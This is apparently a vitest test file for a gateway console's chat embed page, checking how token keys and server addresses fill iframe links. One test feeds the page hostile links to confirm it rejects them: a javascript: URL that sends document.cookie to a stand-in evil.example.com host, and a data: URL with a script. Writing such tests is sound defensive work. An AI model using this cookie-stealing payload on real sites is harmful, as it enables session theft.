import { describe, expect, it, vi } from 'vitest';
import { act, cleanup, screen, waitFor } from '@testing-library/react';
import { Message } from '@arco-design/web-react';
import { TOKEN_STATUS } from '@gw/shared';
import type { SiteStatus } from '@/api/status';
import { jsonResponse } from '@/test/factories';
import { fakeTokenList, renderAt, setUpChatPageTests, token } from './test-support';
import ChatPage from './index';

/** happy-dom's switches: a frame only records its address (no request, no console error for each frame). */
interface HappyDomSettings {
  enableIframePageLoading: boolean;
  disableIframePageLoading: boolean;
  navigation: { disableChildFrameNavigation: boolean };
}
const happyDom = (window as unknown as { happyDOM: { settings: HappyDomSettings } }).happyDOM.settings;
Object.assign(happyDom, { enableIframePageLoading: true, disableIframePageLoading: false });
happyDom.navigation.disableChildFrameNavigation = true;

setUpChatPageTests();
const renderChat = (path: string, status: SiteStatus) => renderAt(path, status, { '/chat': <ChatPage />, '/chat/:id': <ChatPage /> });

async function frame(): Promise<HTMLIFrameElement> {
  await waitFor(() => expect(document.querySelector('iframe')).not.toBeNull());
  return document.querySelector('iframe') as HTMLIFrameElement;
}

const CHATS = [
  { 'ChatGPT Next Web': 'https://next.example.com/#/?settings={"key":"{key}","url":"{address}"}' },
  { 'Lobe Chat': 'https://lobe.example.com/?key={key}&base={address}/v1' },
];

describe('the chat embed page', () => {
  it("frames entry id of Chats with the first enabled token's key and the server address", async () => {
    const calls = fakeTokenList([token(1, 'sk-disabled', TOKEN_STATUS.DISABLED), token(2, 'sk-expired', TOKEN_STATUS.EXPIRED), token(3, 'sk-good', TOKEN_STATUS.ENABLED), token(4, 'sk-second')]);
    renderChat('/chat/1', { chats: CHATS, server_address: 'https://gw.example.com' });

    const shown = await frame();
    expect(shown.src).toBe('https://lobe.example.com/?key=sk-good&base=https%3A%2F%2Fgw.example.com/v1');
    expect(shown.title).toBe('Lobe Chat');
    expect(calls).toEqual(['/api/token/?p=0&size=100']);
  });

  it("uses the token the address names (the token page's 聊天), or the first enabled one when that one is not enabled", async () => {
    fakeTokenList([token(1, 'sk-disabled', TOKEN_STATUS.DISABLED), token(3, 'sk-good'), token(4, 'sk-second')]);
    renderChat('/chat/1?token=4', { chats: CHATS, server_address: 'https://gw.example.com' });
    expect((await frame()).src).toContain('key=sk-second&');
    cleanup();

    fakeTokenList([token(1, 'sk-disabled', TOKEN_STATUS.DISABLED), token(3, 'sk-good'), token(4, 'sk-second')]);
    renderChat('/chat/1?token=1', { chats: CHATS, server_address: 'https://gw.example.com' });
    expect((await frame()).src).toContain('key=sk-good&');
  });

  it('adds the sk- prefix when the list gives a key without it', async () => {
    fakeTokenList([token(1, 'bare')]);
    renderChat('/chat/1', { chats: CHATS, server_address: 'https://gw.example.com' });
    expect((await frame()).src).toContain('key=sk-bare&');
  });

  it("uses the first entry on /chat, and the console's own address when no server address is set", async () => {
    fakeTokenList([token(1, 'sk-good')]);
    renderChat('/chat', { chats: CHATS, server_address: '' });

    const settings = encodeURIComponent(window.location.origin);
    expect((await frame()).src).toBe(`https://next.example.com/#/?settings={%22key%22:%22sk-good%22,%22url%22:%22${settings}%22}`);
  });

  it("falls back to ChatLink in one-api's form while Chats is empty", async () => {
    fakeTokenList([token(1, 'sk-good')]);
    renderChat('/chat', { chats: [], chat_link: 'https://chat.example.com/', server_address: 'https://gw.example.com' });

    const src = (await frame()).src;
    expect(src.startsWith('https://chat.example.com/#/?settings=')).toBe(true);
    const settings = new URLSearchParams(new URL(src).hash.slice('#/?'.length)).get('settings');
    expect(JSON.parse(settings ?? '')).toEqual({ key: 'sk-good', url: 'https://gw.example.com' });
  });

  it.each([
    ['javascript:', 'javascript:fetch("https://evil.example.com/?"+document.cookie)//{key}'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['a relative link', '/somewhere?key={key}'],
  ])('refuses a %s link without loading tokens or anything else', async (_, link) => {
    const calls = fakeTokenList([token(1, 'sk-good')]);
    renderChat('/chat/0', { chats: [{ evil: link }] });

    expect(await screen.findByText('聊天链接配置错误，请联系管理员')).toBeTruthy();
    expect(document.querySelector('iframe')).toBeNull();
    expect(calls).toEqual([]);
  });

  it.each([
    ['nothing is configured', '/chat', {}],
    ['the id is past the last entry', '/chat/2', { chats: CHATS }],
    ['the id is not an index', '/chat/abc', { chats: CHATS }],
  ])('asks to contact the admin when %s', async (_, path, status) => {
    const calls = fakeTokenList([token(1, 'sk-good')]);
    renderChat(path, status);

    expect(await screen.findByText('请联系管理员配置聊天链接')).toBeTruthy();
    expect(document.querySelector('iframe')).toBeNull();
    expect(calls).toEqual([]);
  });

  it('without an enabled token says so and goes to /token after 1.5 s', async () => {
    const warning = vi.spyOn(Message, 'warning');
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
    fakeTokenList([token(1, 'sk-off', TOKEN_STATUS.DISABLED), token(2, 'sk-used', TOKEN_STATUS.EXHAUSTED)]);
    renderChat('/chat/0', { chats: CHATS });

    // Testing Library's find queries wait on setTimeout, which is fake here: let the token list arrive by hand.
    await act(() => vi.advanceTimersByTimeAsync(0));
    expect(warning).toHaveBeenCalledWith('没有可用的已启用令牌');
    expect(screen.getByText('没有可用的已启用令牌', { selector: '.arco-result-title' })).toBeTruthy();
    await act(() => vi.advanceTimersByTimeAsync(1499));
    expect(screen.queryByText('token page')).toBeNull();
    await act(() => vi.advanceTimersByTimeAsync(1));
    expect(screen.getByText('token page')).toBeTruthy();
    expect(document.querySelector('iframe')).toBeNull();
  });

  it('offers an http: link of another origin in a new tab, since the console may frame only https:', async () => {
    fakeTokenList([token(1, 'sk-good')]);
    renderChat('/chat/0', { chats: [{ local: 'http://chat.internal:3000/?key={key}' }] });

    const link = (await screen.findByRole('link', { name: '在新标签页打开' })) as HTMLAnchorElement;
    expect(link.href).toBe('http://chat.internal:3000/?key=sk-good');
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer');
    expect(document.querySelector('iframe')).toBeNull();
  });

  it('shows why the token list did not load', async () => {
    const error = vi.spyOn(Message, 'error');
    vi.stubGlobal('fetch', vi.fn(async () => jsonResponse({ success: false, message: '数据库连接失败' })));
    renderChat('/chat/0', { chats: CHATS });

    expect(await screen.findByText('令牌列表加载失败，请稍后重试')).toBeTruthy();
    expect(error).toHaveBeenCalledWith('数据库连接失败');
    expect(document.querySelector('iframe')).toBeNull();
  });
});
